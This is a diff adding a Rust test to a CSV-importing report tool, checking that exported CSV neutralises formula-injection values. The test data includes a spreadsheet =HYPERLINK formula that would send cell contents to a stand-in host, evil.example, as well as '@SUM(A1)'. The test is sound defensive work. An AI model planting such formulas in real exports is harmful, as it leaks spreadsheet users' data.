@@ -589,3 +589,32 @@ fn report_and_import_have_help() {
         assert!(text.contains(flag), "{flag} in {text}");
     }
 }
+
+#[test]
+fn the_report_csv_neutralises_a_hostile_series_and_keeps_numbers() {
+    let db = sqlite();
+    let csv = "date;cycle;type;thématique;participants;moins de 14 ans;coût\n\
+               16/11/2024;\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Voir\"\")\";atelier;\"@SUM(A1)\";19;2;150,50\n\
+               17/11/2024;-12;rencontre;;73;;\n";
+    ok(almanach(
+        &db,
+        &["import", &temp_file("hostile.csv", csv.as_bytes())],
+    ));
+    let out = ok(almanach(
+        &db,
+        &["report", "--season", "2024-2025", "--format", "csv"],
+    ));
+    let lines: Vec<&str> = out.trim_start_matches('\u{feff}').split("\r\n").collect();
+    assert!(
+        lines.iter().any(|l| l.starts_with(
+            "2024-2025;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Voir\"\")\";1;1;0;1;0;19;2;0;;19,00;1;1;1;150,50;7,92"
+        )),
+        "{out}"
+    );
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with("2024-2025;\"'-12\";1;1;1;0;0;73;0;0;73,00;")),
+        "{out}"
+    );
+}
